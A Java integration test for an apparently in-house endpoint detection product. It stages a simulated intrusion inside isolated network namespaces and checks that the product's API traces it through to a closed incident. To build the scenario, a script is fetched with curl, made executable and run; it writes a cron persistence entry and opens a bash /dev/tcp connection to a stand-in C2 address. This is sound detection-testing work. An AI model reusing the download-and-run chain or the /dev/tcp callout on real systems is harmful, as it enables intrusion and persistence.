package dev.kiroku.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.kiroku.sensor.linux.audit.AuditLock;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.StreamSupport;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Issue 6's seed scenario on this machine: the real server and two real agents as separate processes, scoped to the
 * network namespaces of endpoints A and B ({@code kiroku-seeda-PID}, {@code kiroku-seedb-PID}); an HTTP server in
 * {@code kiroku-web-PID} at 198.51.100.10 and a "C2" listener in {@code kiroku-c2-PID} at 203.0.113.5, both linked
 * to A by veth pairs (documentation addresses, only inside these namespaces). On A a shell session downloads
 * {@code update} with curl, makes it executable and runs it; it writes a cron entry (a comment, in the real
 * {@code /etc/cron.d} so the rule pack fires; removed in finally) and starts a bash that connects to the C2. The same
 * file is copied on B and never run. Starting only from the C2 address, the four steps are walked through the REST
 * API, then the incident that grouped the alerts is closed with a report.
 */
class SeedScenarioTest {
    private static final String WEB = "198.51.100.10";
    private static final String C2 = "203.0.113.5";
    private static final int WEB_PORT = 8080;
    private static final int C2_PORT = 4444;

    @Test
    void fromTheC2AddressToAClosedIncident(@TempDir Path data) throws Exception {
        Root.required();
        long pid = ProcessHandle.current().pid();
        Path shared = Files.createTempDirectory(Path.of("/dev/shm"), "kiroku-seed-");
        Files.setPosixFilePermissions(shared, PosixFilePermissions.fromString("rwxr-xr-x"));
        Path cronFile = Path.of("/etc/cron.d/kiroku-seed-" + pid);
        int apiPort = KirokuProcesses.freePort();
        int fleetPort = KirokuProcesses.freePort();
        KirokuProcesses processes = new KirokuProcesses(data);
        List<NetworkNamespace> namespaces = new ArrayList<>();
        List<Process> services = new ArrayList<>();
        try (AuditLock ignored = AuditLock.acquire(Duration.ofMinutes(15))) {
            NetworkNamespace a = NetworkNamespace.create("seeda", namespaces);
            NetworkNamespace b = NetworkNamespace.create("seedb", namespaces);
            NetworkNamespace web = NetworkNamespace.create("web", namespaces);
            NetworkNamespace c2 = NetworkNamespace.create("c2", namespaces);
            a.link(web, "198.51.100.1", WEB, 24);
            a.link(c2, "203.0.113.1", C2, 24);

            Path served = Files.createDirectories(shared.resolve("served"));
            // The processes live a few seconds (a slow download, a script that lingers): the agents read a process's
            // namespace from /proc when they handle its events, and scope decides on that (ADR 4). A trailing `exit 0`
            // keeps bash from exec'ing its last command in place (the process would then show as sleep).
            Files.writeString(served.resolve("update"), """
                    #!/bin/sh
                    echo "# * * * * * root $0" > "$1"
                    bash -c 'exec 3<>/dev/tcp/%s/%d; echo beacon >&3; exec 3>&-; sleep 2; exit 0'
                    sleep 3
                    echo updated
                    """.formatted(C2, C2_PORT) + "#".repeat(12_000) + "\n");
            services.add(new ProcessBuilder(web.inside("/usr/bin/python3", "-m", "http.server", "" + WEB_PORT, "--bind", WEB,
                    "--directory", served.toString())).redirectErrorStream(true).redirectOutput(data.resolve("web.log").toFile()).start());
            services.add(new ProcessBuilder(c2.inside("/usr/bin/python3", "-c", """
                    import socket
                    s = socket.create_server(("%s", %d))
                    while True:
                        c, _ = s.accept()
                        print(c.recv(100), flush=True)
                        c.close()
                    """.formatted(C2, C2_PORT))).redirectErrorStream(true).redirectOutput(data.resolve("c2.log").toFile()).start());

            Path serverData = data.resolve("server");
            processes.start("server", "server", "--data", serverData.toString(), "--port", "" + apiPort, "--fleet-port", "" + fleetPort);
            Api api = new Api("https://127.0.0.1:" + apiPort, serverData.resolve("credentials"));
            KirokuProcesses.awaitHealthy(api);
            String token = api.post("/api/v1/tokens", "{\"expires\":\"1h\"}").path("token").asText();
            String agentA = enrol(processes, api, data, "a", a, token, fleetPort, shared);
            String agentB = enrol(processes, api, data, "b", b, token, fleetPort, shared);

            // Endpoint A: download, chmod +x, run. Endpoint B: the same file copied, never run.
            Path dropA = Files.createDirectories(shared.resolve("a"));
            Path dropB = Files.createDirectories(shared.resolve("b"));
            Path payload = dropA.resolve("update");
            await().atMost(Duration.ofSeconds(30)).ignoreExceptions().until(() -> {
                a.exec("curl", "-sS", "-o", "/dev/null", "http://" + WEB + ":" + WEB_PORT + "/");
                return true;
            });
            a.exec("/bin/bash", "-c", "curl -sS --limit-rate 4k -o \"$1\" \"$2\" && chmod +x \"$1\" && \"$1\" \"$3\"; sleep 5; exit 0", "session",
                    payload.toString(), "http://" + WEB + ":" + WEB_PORT + "/update", cronFile.toString());
            assertThat(cronFile).exists();
            // Copied by a shell that lingers (a cp would be gone before its write is attributed, see above).
            b.exec("/bin/sh", "-c", "while IFS= read -r line; do printf '%s\\n' \"$line\"; done < \"$1\" > \"$2\"; sleep 3", "copy",
                    payload.toString(), dropB.resolve("update").toString());
            assertThat(Files.mismatch(payload, dropB.resolve("update"))).as("B holds the same file").isEqualTo(-1);
            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(Files.readString(data.resolve("c2.log"))).contains("beacon"));

            await().atMost(Duration.ofSeconds(120)).untilAsserted(() -> {
                assertThat(api.count("event.action:connect AND destination.ip:" + C2 + " AND process.name:bash")).isEqualTo(1);
                assertThat(api.count("event.action:connect AND destination.ip:" + WEB + " AND process.name:curl")).isGreaterThanOrEqualTo(1);
                assertThat(api.count("file.path:=\"" + payload + "\" AND event.action:modification")).isGreaterThanOrEqualTo(1);
                assertThat(api.count("file.path:=\"" + cronFile + "\" AND event.action:modification")).isEqualTo(1);
                assertThat(api.count("agent.id:\"" + agentB + "\" AND file.path:=\"" + dropB.resolve("update") + "\"")).isPositive();
            });

            // 1. Who talked to it: a bash on endpoint A.
            JsonNode found = api.get("/api/v1/investigate/ip/" + C2 + "?port=" + C2_PORT);
            Files.writeString(data.resolve("investigation.json"), found.toPrettyString());
            assertThat(found.path("contacts")).hasSize(1);
            JsonNode contact = found.path("contacts").get(0);
            assertThat(contact.path("agent_id").asText()).isEqualTo(agentA);
            assertThat(contact.path("host_name").asText()).isEqualTo("endpoint-a");
            assertThat(contact.path("executable").asText()).endsWith("/bash");
            assertThat(contact.path("remotes").toString()).contains(C2 + ":" + C2_PORT);

            // 2. How it got there: bash ← the downloaded script ← the session; the script was written by curl right
            // after it connected to the HTTP server.
            JsonNode chain = found.path("chains").get(0);
            assertThat(chain.path("chain").get(0).path("process").path("executable").asText()).endsWith("/bash");
            JsonNode script = chain.path("chain").get(1);
            JsonNode origin = StreamSupport.stream(script.path("origins").spliterator(), false)
                    .filter(o -> o.path("role").asText().equals("script")).findFirst().orElseThrow();
            assertThat(origin.path("path").asText()).isEqualTo(payload.toString());
            assertThat(origin.path("writer").path("process").path("executable").asText()).endsWith("/curl");
            assertThat(origin.path("writer").path("download").toString()).contains(WEB).contains("" + WEB_PORT);
            assertThat(chain.path("graph").path("edges").toString()).contains("WROTE").contains("EXECUTED").contains("SPAWNED").contains("CONNECTED");
            assertThat(found.path("answers").get(1).asText()).contains(payload.toString()).contains("curl").contains(WEB);

            // 3. Who else has it: A ran it, B carries it dormant.
            JsonNode byName = StreamSupport.stream(found.path("scope").spliterator(), false)
                    .filter(s -> "update".equals(s.path("name").asText()) && !s.hasNonNull("path")).findFirst().orElseThrow();
            assertThat(presence(byName, agentA).path("state").asText()).isIn("RAN", "CONNECTED_OUT");
            assertThat(presence(byName, agentB).path("state").asText()).isEqualTo("DORMANT");
            assertThat(presence(byName, agentB).path("paths").toString()).contains(dropB.resolve("update").toString());

            // 4. What it did: the shell, the cron entry (persistence) and the connection to the C2.
            JsonNode impact = found.path("impacts").get(0);
            assertThat(impact.path("processes").toString()).contains("/bash");
            JsonNode cron = StreamSupport.stream(impact.path("files").spliterator(), false)
                    .filter(f -> f.path("path").asText().equals(cronFile.toString())).findFirst().orElseThrow();
            assertThat(cron.path("persistence").asText()).isEqualTo("cron");
            assertThat(impact.path("connections").toString()).contains(C2);

            // The alerts of endpoint A (cron written by the script, the shell's connection out) are one incident.
            JsonNode incident = await().atMost(Duration.ofSeconds(120)).until(() -> incidentOf(api, agentA), i -> i != null);
            JsonNode alertsOfA = api.get("/api/v1/alerts?agent=" + agentA + "&limit=100").path("alerts");
            Set<String> rules = new HashSet<>();
            for (JsonNode alert : alertsOfA) rules.add(alert.path("rule").path("title").asText());
            assertThat(rules).as("alerts raised on endpoint A").hasSizeGreaterThanOrEqualTo(2);
            await().atMost(Duration.ofSeconds(120)).untilAsserted(() -> {
                JsonNode incidents = api.get("/api/v1/incidents?limit=50").path("incidents");
                List<JsonNode> withA = StreamSupport.stream(incidents.spliterator(), false)
                        .filter(i -> i.path("alerts").toString().contains(agentA)).toList();
                assertThat(withA).as("incidents holding A's alerts (shown without their alerts): %s", withA.stream().map(i -> {
                    ObjectNode shown = (ObjectNode) i.deepCopy();
                    shown.remove("alerts");
                    return shown;
                }).toList()).hasSize(1);
                JsonNode current = api.get("/api/v1/incidents/" + incident.path("id").asLong());
                assertThat(current.path("alerts").size()).isEqualTo(alertsOfA.size());
            });
            long id = incident.path("id").asLong();
            assertThat(api.get("/api/v1/incidents/" + id + "/timeline").path("timeline").size()).isPositive();
            assertThat(api.get("/api/v1/incidents/" + id + "/indicators").path("indicators").toString()).contains(C2);
            JsonNode report = api.post("/api/v1/incidents/" + id + "/close", """
                    {"root_cause":"update downloaded with curl from %s and run on endpoint-a","scope":"endpoint-a ran it; endpoint-b holds a dormant copy"}"""
                    .formatted(WEB));
            assertThat(report.path("status").asText()).isEqualTo("CLOSED");
            assertThat(report.path("affected_endpoints").toString()).contains("endpoint-a");
            assertThat(report.path("checked_endpoints").toString()).containsAnyOf("endpoint-b", agentB);
            assertThat(report.path("open_risks").toString()).contains("dormant");
            assertThat(report.path("root_cause_chain").toString()).contains("update");
            System.out.printf("seed scenario: C2 %s → bash on %s ← %s written by curl from %s; dormant copy on %s; incident %d closed%n",
                    C2, agentA, payload, WEB, agentB, id);
        } finally {
            processes.close();
            for (Process service : services) {
                service.destroy();
                service.waitFor();
            }
            for (NetworkNamespace namespace : namespaces.reversed()) namespace.close();
            Files.deleteIfExists(cronFile);
            Scratch.delete(shared);
        }
    }

    private static String enrol(KirokuProcesses processes, Api api, Path data, String name, NetworkNamespace scope, String token,
                                int fleetPort, Path watched) throws Exception {
        processes.start("agent-" + name, "agent", "--data", data.resolve("agent-" + name).toString(), "--server", "127.0.0.1:" + fleetPort,
                "--token", token, "--watch", watched + ",/etc/cron.d", "--heartbeat", "1s", "--no-response",
                "--host-name", "endpoint-" + name, "--scope", "netns:" + scope.name);
        return await().atMost(Duration.ofSeconds(240)).until(() -> {
            for (JsonNode endpoint : api.get("/api/v1/endpoints").path("endpoints")) {
                if (endpoint.path("status").asText().equals("online") && endpoint.path("inventory").path("hostName").asText().equals("endpoint-" + name)) {
                    return endpoint.path("agentId").asText();
                }
            }
            return null;
        }, id -> id != null);
    }

    private static JsonNode presence(JsonNode artifact, String agentId) {
        return StreamSupport.stream(artifact.path("endpoints").spliterator(), false)
                .filter(p -> p.path("agent_id").asText().equals(agentId)).findFirst()
                .orElseThrow(() -> new AssertionError(agentId + " not in " + artifact));
    }

    private static JsonNode incidentOf(Api api, String agentId) {
        for (JsonNode incident : api.get("/api/v1/incidents?limit=50").path("incidents")) {
            if (incident.path("alerts").toString().contains(agentId)) return incident;
        }
        return null;
    }
}
